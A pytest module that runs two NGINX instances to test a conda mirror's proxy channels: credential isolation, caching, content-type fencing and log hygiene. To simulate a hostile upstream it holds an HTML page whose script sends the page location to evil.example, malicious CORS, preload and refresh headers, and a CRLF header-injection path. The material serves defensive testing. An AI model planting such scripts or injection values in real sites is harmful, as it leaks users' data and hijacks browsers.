"""Proxy channels under a real NGINX (item 4 of issue 13), on loopback, no containers.

The channel vhost, the proxy channels' snippets and the shared cache settings are
rendered from the roles (tests/support/render.py) into a scratch prefix and loaded by
Debian's NGINX as the host would load them; a second NGINX plays the upstream channel
(HTTPS, basic auth) and logs what it receives. Skipped where NGINX is not installed;
molecule/edges checks the same end to end with py-rattler.
"""

from __future__ import annotations

import base64
import gzip
import http.client
import json
import os
import shutil
import ssl
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from bench.bench_auth import free_port, self_signed
from condaport.files import replace_atomically
from tests.support.nginx import NGINX, running
from tests.support.render import Renderer, scratch_host_paths

MIRROR_PASSWORD = "mirror-upstream-Pw-0815"
READER_PASSWORD = "reader-password-4711"
READ_TOKEN = "reader-token-0123456789abcdef"
CACHE = "X-Condaport-Cache"
VALIDITY = 1
PACKAGE = "pkg-1.0-0.conda"
SHARD = "0123456789abcdef" * 4 + ".msgpack.zst"
HOSTILE_PAGE = "<!doctype html><script>fetch('https://evil.example/?' + location)</script>"
# Big enough for gzip (gzip_min_length).
RUN_EXPORTS = json.dumps({"packages": {f"pkg-{n}": {"weak": [f"pkg-{n}"]} for n in range(20)}})


@dataclass
class Reply:
    status: int
    body: bytes
    headers: http.client.HTTPMessage


@dataclass
class Setup:
    prefix: Path
    port: int
    upstream_port: int
    upstream_conf: Path
    upstream_www: Path

    def get(self, path: str, headers: dict[str, str] | None = None, method: str = "GET") -> Reply:
        context = ssl.create_default_context(cafile=str(self.prefix / "cert.pem"))
        context.check_hostname = False
        conn = http.client.HTTPSConnection("127.0.0.1", self.port, context=context, timeout=20)
        try:
            conn.request(
                method, path, body=b"x" if method != "GET" else None, headers=headers or {}
            )
            answer = conn.getresponse()
            return Reply(answer.status, answer.read(), answer.headers)
        finally:
            conn.close()

    def upstream_log(self) -> list[dict]:
        path = self.prefix / "upstream.log"
        lines = path.read_text().splitlines() if path.exists() else []
        return [json.loads(line) for line in lines]

    def upstream_saw(self, uri: str) -> list[dict]:
        """The upstream's log entries for `uri`, once there is one. NGINX logs a request
        after it has answered it, so the proxy's reply can come first."""
        deadline = time.monotonic() + 5
        while True:
            seen = [entry for entry in self.upstream_log() if entry["uri"] == uri]
            if seen or time.monotonic() > deadline:
                return seen
            time.sleep(0.02)


def reader() -> dict[str, str]:
    token = base64.b64encode(f"reader:{READER_PASSWORD}".encode()).decode()
    return {"Authorization": f"Basic {token}"}


def _hash(password: str) -> str:
    from passlib.hash import apr_md5_crypt

    return apr_md5_crypt.hash(password)


# Both run their workers as root: pytest's scratch directories are private to root.
UPSTREAM_CONF = """
user root root;
worker_processes 1;
pid {prefix}/upstream.pid;
error_log {prefix}/upstream-error.log;
events {{ worker_connections 64; }}
http {{
    client_body_temp_path {prefix}/tmp; proxy_temp_path {prefix}/tmp;
    fastcgi_temp_path {prefix}/tmp; uwsgi_temp_path {prefix}/tmp; scgi_temp_path {prefix}/tmp;
    log_format seen escape=json '{{"uri": "$request_uri", "authorization": "$http_authorization",'
                                ' "cookie": "$http_cookie", "api_key": "$http_x_api_key"}}';
    access_log {prefix}/upstream.log seen;
    server {{
        listen 127.0.0.1:{port} {tls}
        root {prefix}/upstream;
        # A hostile upstream: everything it sends is a page, with headers a browser acts on.
        default_type text/html;
        add_header Content-Security-Policy-Report-Only "report-uri https://evil.example/r" always;
        add_header Access-Control-Allow-Origin "https://evil.example" always;
        add_header Access-Control-Allow-Credentials true always;
        add_header Link "<https://evil.example/x.js>; rel=preload; as=script" always;
        add_header Refresh "0; url=https://evil.example/" always;
        error_page 404 /404.html;
        location = /404.html {{ internal; }}
        location /conda-forge/ {{
            auth_basic "upstream"; auth_basic_user_file {prefix}/upstream.htpasswd;
            try_files $uri ${{uri}}index.html =404;
        }}
        location /public/ {{ try_files $uri =404; }}
    }}
}}
"""

CONDAPORT_CONF = """
user root root;
worker_processes 1;
pid {prefix}/condaport.pid;
error_log {prefix}/error.log info;
events {{ worker_connections 64; }}
http {{
    types {{ application/json json; }}
    client_body_temp_path {prefix}/tmp; proxy_temp_path {prefix}/tmp;
    fastcgi_temp_path {prefix}/tmp; uwsgi_temp_path {prefix}/tmp; scgi_temp_path {prefix}/tmp;
    include {prefix}/upload-http.conf;
    include {prefix}/condaport.conf;
}}
"""


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    if not Path(NGINX).exists():
        pytest.skip("nginx is not installed")
    prefix = tmp_path_factory.mktemp("proxy-nginx")
    prefix.chmod(0o755)
    for folder in ("tmp", "auth", "run", "proxy", "proxy-cache", "local/main/noarch"):
        (prefix / folder).mkdir(parents=True)
    tls = self_signed(prefix)
    www = prefix / "upstream"
    for folder in ("conda-forge/noarch", "public/noarch"):
        (www / folder).mkdir(parents=True)
    (www / "conda-forge/noarch/repodata.json").write_text('{"generation": 1}')
    (www / "conda-forge/channeldata.json").write_text('{"generation": 1}')
    (www / "conda-forge/noarch" / PACKAGE).write_bytes(b"package-bytes")
    (www / "public/noarch/repodata.json").write_text('{"public": 1}')
    pages = (
        "404.html",
        "conda-forge/index.html",
        "conda-forge/noarch/index.html",
        "conda-forge/x.html",
    )
    for page in pages:
        (www / page).write_text(HOSTILE_PAGE)
    (www / "conda-forge/noarch/run_exports.json").write_text(RUN_EXPORTS)
    (www / "conda-forge/noarch/repodata_shards.msgpack.zst").write_bytes(b"shard-index")
    (www / "conda-forge/noarch/shards").mkdir()
    (www / f"conda-forge/noarch/shards/{SHARD}").write_bytes(b"shard-bytes")
    local = prefix / "local/main"
    for name in ("channeldata.json", "noarch/run_exports.json", "noarch/repodata.json"):
        (local / name).write_text("{}")
    (local / "index.html").write_text("<!doctype html><title>main</title>")
    (local / "noarch/repodata_shards.msgpack.zst").write_bytes(b"shard-index")
    (local / "noarch" / PACKAGE).write_bytes(b"package-bytes")
    (local / "noarch/shards").mkdir()
    (local / f"noarch/shards/{SHARD}").write_bytes(b"shard-bytes")
    # NGINX's Last-Modified and ETag count whole seconds (and the size), so a same-size
    # rewrite within the second would revalidate as unchanged: date the originals back.
    an_hour_ago = time.time() - 3600
    for served in www.rglob("*"):
        if served.is_file():
            os.utime(served, (an_hour_ago, an_hour_ago))
    (prefix / "upstream.htpasswd").write_text(f"mirror:{_hash(MIRROR_PASSWORD)}\n")

    upstream_port, port = free_port(), free_port()
    inventory = {
        "condaport_auth_mode": "basic",
        # Without the metrics (and Lua): tests/unit/test_metrics_nginx.py runs with them.
        "condaport_metrics_enabled": False,
        "condaport_nginx_https_port": port,
        "condaport_nginx_http_port": 0,
        "condaport_nginx_listen_ipv6": False,
        "condaport_channels": [
            {"name": "main", "users": ["reader"]},
            {
                "name": "forge",
                "users": ["reader"],
                "upstream": f"https://localhost:{upstream_port}/conda-forge",
                "upstream_user": "mirror",
                "upstream_password": MIRROR_PASSWORD,
                "upstream_ca": str(prefix / "cert.pem"),
            },
            {
                "name": "open",
                "anonymous": True,
                "upstream": f"https://localhost:{upstream_port}/public/",
                # The test's upstream has a self-signed certificate, in no system store.
                "upstream_ca": str(prefix / "cert.pem"),
            },
        ],
        "condaport_nginx_users": [
            {"name": "reader", "password": READER_PASSWORD, "tokens": [READ_TOKEN]}
        ],
        "condaport_proxy_index_validity": VALIDITY,
        **scratch_host_paths(prefix),
        "condaport_proxy_nginx_dir": str(prefix / "proxy"),
        "condaport_proxy_cache_dir": str(prefix / "proxy-cache"),
    }
    renderer = Renderer(["condaport", "condaport_nginx", "condaport_proxy"], inventory)
    out = {
        "condaport.conf": ("condaport_nginx", "etc/nginx/conf.d/condaport.conf.j2"),
        "upload-http.conf": ("condaport_nginx", "etc/nginx/conf.d/condaport-upload.conf.j2"),
        "upload-server.conf": ("condaport_nginx", "etc/nginx/snippets/condaport-upload.conf.j2"),
        "cache.conf": ("condaport_nginx", "etc/nginx/snippets/condaport-cache.conf.j2"),
        "auth/tokens.map": ("condaport_nginx", "etc/nginx/condaport/tokens.map.j2"),
        "auth/upload-tokens.map": ("condaport_nginx", "etc/nginx/condaport/upload-tokens.map.j2"),
        "proxy/http.conf": ("condaport_proxy", "etc/nginx/condaport-proxy/http.conf.j2"),
        "proxy/package.conf": ("condaport_proxy", "etc/nginx/condaport-proxy/package.conf.j2"),
        "proxy/index.conf": ("condaport_proxy", "etc/nginx/condaport-proxy/index.conf.j2"),
    }
    for name, (role, template) in out.items():
        (prefix / name).write_text(renderer.render(role, template))
    for upstream in renderer.value("__condaport_proxy_upstreams"):
        name = upstream["name"]
        (prefix / f"proxy/channel-{name}.conf").write_text(
            renderer.render(
                "condaport_proxy",
                "etc/nginx/condaport-proxy/channel.conf.j2",
                __condaport_proxy_upstream=upstream,
            )
        )
        (prefix / f"proxy/channel-{name}.html").write_text(
            renderer.render(
                "condaport_proxy",
                "etc/nginx/condaport-proxy/page.html.j2",
                __condaport_proxy_upstream=upstream,
            )
        )
        if upstream["ca_source"]:
            shutil.copy(upstream["ca_source"], upstream["ca"])
    (prefix / "auth/generation.conf").write_text('return 200 "test\\n";\n')
    for channel in ("main", "forge"):
        (prefix / f"auth/{channel}.htpasswd").write_text(f"reader:{_hash(READER_PASSWORD)}\n")

    upstream_conf = prefix / "upstream.conf"
    upstream_conf.write_text(UPSTREAM_CONF.format(prefix=prefix, port=upstream_port, tls=tls))
    conf = prefix / "nginx.conf"
    conf.write_text(CONDAPORT_CONF.format(prefix=prefix))
    with running(prefix, conf, upstream_conf):
        yield Setup(prefix, port, upstream_port, upstream_conf, www)


def test_the_channel_serves_its_upstream_with_the_channels_own_credential(setup: Setup) -> None:
    # A client's own headers never go upstream, whatever it sends along.
    headers = reader() | {"Cookie": "session=client-cookie", "X-API-Key": "client-key"}
    first = setup.get("/forge/noarch/repodata.json", headers)
    assert first.status == 200, (first.status, first.body)
    assert first.body == b'{"generation": 1}'
    assert first.headers[CACHE] == "MISS"
    seen = setup.upstream_saw("/conda-forge/noarch/repodata.json")
    expected = base64.b64encode(f"mirror:{MIRROR_PASSWORD}".encode()).decode()
    assert [e["authorization"] for e in seen] == [f"Basic {expected}"]
    assert seen[0]["cookie"] == "" and seen[0]["api_key"] == ""
    # Cached: plain and token URLs share the object.
    assert setup.get("/forge/noarch/repodata.json", reader()).headers[CACHE] == "HIT"
    by_token = setup.get(f"/t/{READ_TOKEN}/forge/noarch/repodata.json")
    assert by_token.status == 200 and by_token.headers[CACHE] == "HIT"


def test_the_channels_own_access_rules_apply(setup: Setup) -> None:
    assert setup.get("/forge/noarch/repodata.json").status == 401
    wrong = {"Authorization": "Basic " + base64.b64encode(b"reader:nope").decode()}
    assert setup.get("/forge/noarch/repodata.json", wrong).status == 401
    # The upstream credential is no login here.
    mirror = base64.b64encode(f"mirror:{MIRROR_PASSWORD}".encode()).decode()
    assert (
        setup.get("/forge/noarch/repodata.json", {"Authorization": f"Basic {mirror}"}).status == 401
    )
    # An anonymous proxy channel: no credentials, and none sent upstream.
    public = setup.get("/open/noarch/repodata.json")
    assert public.status == 200 and public.body == b'{"public": 1}'
    seen = setup.upstream_saw("/public/noarch/repodata.json")
    assert [e["authorization"] for e in seen] == [""]


def test_packages_stay_and_index_files_refresh_after_the_validity(setup: Setup) -> None:
    url = f"/forge/noarch/{PACKAGE}"
    assert setup.get(url, reader()).headers[CACHE] == "MISS"
    kept = setup.get(url, reader())
    assert kept.headers[CACHE] == "HIT" and kept.body == b"package-bytes"
    assert "immutable" in kept.headers["Cache-Control"]
    for path in ("noarch/repodata.json", "channeldata.json"):
        setup.get(f"/forge/{path}", reader())
        (setup.upstream_www / "conda-forge" / path).write_text('{"generation": 2}')
        assert setup.get(f"/forge/{path}", reader()).body == b'{"generation": 1}'
        # NGINX counts validity in whole seconds: up to one more.
        time.sleep(VALIDITY + 1.2)
        fresh = setup.get(f"/forge/{path}", reader())
        assert fresh.body == b'{"generation": 2}', (path, fresh.headers[CACHE])
        assert fresh.headers[CACHE] == "EXPIRED", path
    # A package left alone for the same time is still a hit.
    assert setup.get(url, reader()).headers[CACHE] == "HIT"


def test_a_same_second_same_size_republish_upstream_reaches_the_proxy(setup: Setup) -> None:
    # The upstream's index written twice in one second at one size: NGINX's ETag and
    # Last-Modified would not change, so the proxy's revalidation would get a 304 and keep
    # the old index, unless the rewrite is dated after it (as condaport's writers do).
    served = setup.upstream_www / "conda-forge/noarch/current_repodata.json"
    url = "/forge/noarch/current_repodata.json"
    time.sleep(1.02 - time.time() % 1)  # all three steps early in one second
    replace_atomically(served, b'{"generation": 1}')
    assert setup.get(url, reader()).body == b'{"generation": 1}'
    replace_atomically(served, b'{"generation": 2}')
    time.sleep(VALIDITY + 1.2)
    fresh = setup.get(url, reader())
    assert fresh.body == b'{"generation": 2}', fresh.headers[CACHE]


def test_only_conda_paths_reach_the_upstream(setup: Setup) -> None:
    before = len(setup.upstream_log())
    for hostile in ("/forge/noarch/a%0d%0aX-Injected:%201", "/forge/noarch/a%20b"):
        assert setup.get(hostile, reader()).status == 404, hostile
    # A request that does go upstream, after them: once it is logged, so would they be.
    setup.get("/forge/noarch/marker-1.0-0.conda", reader())
    assert setup.upstream_saw("/conda-forge/noarch/marker-1.0-0.conda")
    assert [e["uri"] for e in setup.upstream_log()[before:]] == [
        "/conda-forge/noarch/marker-1.0-0.conda"
    ]


# What a hostile upstream sends along that a browser would act on for condaport's origin.
UPSTREAM_ONLY = (
    "Content-Security-Policy-Report-Only",
    "Access-Control-Allow-Origin",
    "Access-Control-Allow-Credentials",
    "Link",
    "Refresh",
)


def fenced(reply: Reply) -> bool:
    """Sandboxed, never sniffed, and nothing of the upstream's own headers for the browser."""
    return (
        reply.headers.get_all("Content-Security-Policy") == ["sandbox; default-src 'none'"]
        and reply.headers.get_all("X-Content-Type-Options") == ["nosniff"]
        and not any(reply.headers.get(name) for name in UPSTREAM_ONLY)
    )


def test_the_browse_page_is_condaports_own_never_the_upstreams(setup: Setup) -> None:
    for url, headers in (
        ("/forge/", reader()),
        ("/forge/index.html", reader()),
        (f"/t/{READ_TOKEN}/forge/", {}),
        ("/open/", {}),
    ):
        page = setup.get(url, headers)
        assert page.status == 200, (url, page.status)
        assert page.headers.get_all("Content-Type") == ["text/html; charset=utf-8"], url
        assert b"<script" not in page.body and b"proxy channel" in page.body, url
        assert "sandbox" in page.headers["Content-Security-Policy"], url
        assert page.headers["X-Content-Type-Options"] == "nosniff", url
    forge = setup.get("/forge/", reader()).body.decode()
    assert f"https://localhost:{setup.upstream_port}/conda-forge/" in forge
    assert "mirror" not in forge and MIRROR_PASSWORD not in forge
    # Nor any other page of the upstream: answered here, never asked for there.
    for url in ("/forge/noarch/", "/forge/noarch/index.html", "/forge/x.html", "/forge/X.HTM"):
        assert setup.get(url, reader()).status == 404, url
    asked = {entry["uri"] for entry in setup.upstream_log()}
    assert not {u for u in asked if u.endswith(("/", ".html", ".HTM"))}, asked


def test_upstream_files_are_sent_as_json_or_bytes_fenced_off(setup: Setup) -> None:
    expected = {
        "/forge/noarch/repodata.json": "application/json",
        "/forge/channeldata.json": "application/json",
        "/forge/noarch/run_exports.json": "application/json",
        f"/forge/noarch/{PACKAGE}": "application/octet-stream",
        f"/forge/noarch/shards/{SHARD}": "application/octet-stream",
        # The upstream's own 404 page (kept in the cache as an index file's 404 is).
        "/forge/noarch/missing.json": "application/json",
        "/forge/noarch/missing-1.0-0.conda": "application/octet-stream",
    }
    for url, content_type in expected.items():
        for attempt in ("MISS", "HIT"):
            reply = setup.get(url, reader())
            assert reply.headers.get_all("Content-Type") == [content_type], (url, attempt)
            assert fenced(reply), (url, attempt, reply.headers)
    assert b"<script" in setup.get("/forge/noarch/missing-1.0-0.conda", reader()).body
    # NGINX's own answers keep their one type, and are fenced too.
    own = setup.get("/forge/noarch/a%20b", reader())
    assert own.status == 404 and own.headers.get_all("Content-Type") == ["text/html"]
    assert fenced(own)


def test_proxied_json_is_still_compressed_for_clients_that_ask(setup: Setup) -> None:
    reply = setup.get("/forge/noarch/run_exports.json", reader() | {"Accept-Encoding": "gzip"})
    assert reply.status == 200 and reply.headers["Content-Encoding"] == "gzip"
    assert json.loads(gzip.decompress(reply.body)) == json.loads(RUN_EXPORTS)
    package = setup.get(f"/forge/noarch/{PACKAGE}", reader() | {"Accept-Encoding": "gzip"})
    assert package.headers["Content-Encoding"] is None and package.body == b"package-bytes"


def test_only_package_files_and_shards_are_immutable(setup: Setup) -> None:
    """Clients (and edges) may keep a package file or a content-addressed shard for a year;
    anything else of a channel, local or proxied, changes with a publish and revalidates."""
    immutable = [f"noarch/{PACKAGE}", f"noarch/shards/{SHARD}"]
    revalidated = [
        "channeldata.json",
        "noarch/run_exports.json",
        "noarch/repodata.json",
        "noarch/repodata_shards.msgpack.zst",
    ]
    for channel in ("main", "forge"):
        for path in immutable + revalidated:
            reply = setup.get(f"/{channel}/{path}", reader())
            assert reply.status == 200, (channel, path, reply.status)
            cache_control = reply.headers["Cache-Control"]
            if path in immutable:
                assert cache_control == "private, max-age=31536000, immutable", (channel, path)
            else:
                assert cache_control == "private, max-age=30, must-revalidate", (channel, path)
    for channel in ("main", "forge"):
        page = setup.get(f"/{channel}/", reader())
        assert page.headers["Cache-Control"] == "private, no-cache", channel


@pytest.mark.parametrize("path", ["noarch/.x.conda", "noarch/.hidden.tar.bz2", ".cache/x.json"])
@pytest.mark.parametrize("who", ["nobody", "reader"])
def test_dot_paths_answer_404_with_or_without_credentials(
    setup: Setup, path: str, who: str
) -> None:
    """Dot paths (indexer caches, temp files) are never served, for local and proxy channels
    alike, and a client without credentials learns nothing about them (404, not 401)."""
    headers = reader() if who == "reader" else {}
    for channel in ("main", "forge"):
        reply = setup.get(f"/{channel}/{path}", headers)
        assert reply.status == 404, (channel, path, who, reply.status)


def test_uploads_to_a_proxy_channel_answer_405_with_a_reason(setup: Setup) -> None:
    for method, path in (
        ("PUT", f"/forge/noarch/{PACKAGE}"),
        ("POST", "/api/channels/open/upload/x"),
    ):
        reply = setup.get(path, {"Authorization": "Bearer anything-0123456789"}, method)
        assert reply.status == 405, (method, reply.status, reply.body)
        assert "takes no uploads" in json.loads(reply.body)["error"]
        assert reply.headers["Allow"] == "GET, HEAD"


def test_stale_copies_while_the_upstream_is_down_and_say_so(setup: Setup) -> None:
    setup.get("/forge/noarch/repodata.json", reader())
    stop = [NGINX, "-p", str(setup.prefix), "-c", str(setup.upstream_conf), "-s", "stop"]
    subprocess.run(stop, check=True)
    time.sleep(VALIDITY + 1.2)
    stale = setup.get("/forge/noarch/repodata.json", reader())
    assert stale.status == 200 and stale.headers[CACHE] == "STALE"
    assert setup.get(f"/forge/noarch/{PACKAGE}", reader()).status == 200
    assert setup.get("/forge/noarch/never-cached-1.0-0.conda", reader()).status == 502
    # Also by token URL: the failure is logged nowhere with the request line (and the token).
    by_token = setup.get(f"/t/{READ_TOKEN}/forge/noarch/never-cached-2.0-0.conda")
    assert by_token.status == 502


def test_no_credential_in_cache_files_or_the_access_log(setup: Setup) -> None:
    secrets = [
        MIRROR_PASSWORD,
        base64.b64encode(f"mirror:{MIRROR_PASSWORD}".encode()).decode(),
        READER_PASSWORD,
        reader()["Authorization"].split()[1],
        READ_TOKEN,
    ]
    cached = [p for p in (setup.prefix / "proxy-cache").rglob("*") if p.is_file()]
    assert len(cached) >= 3
    for path in [*cached, setup.prefix / "access.log", setup.prefix / "error.log"]:
        data = path.read_bytes()
        for secret in secrets:
            assert secret.encode() not in data, (path, secret[:4])
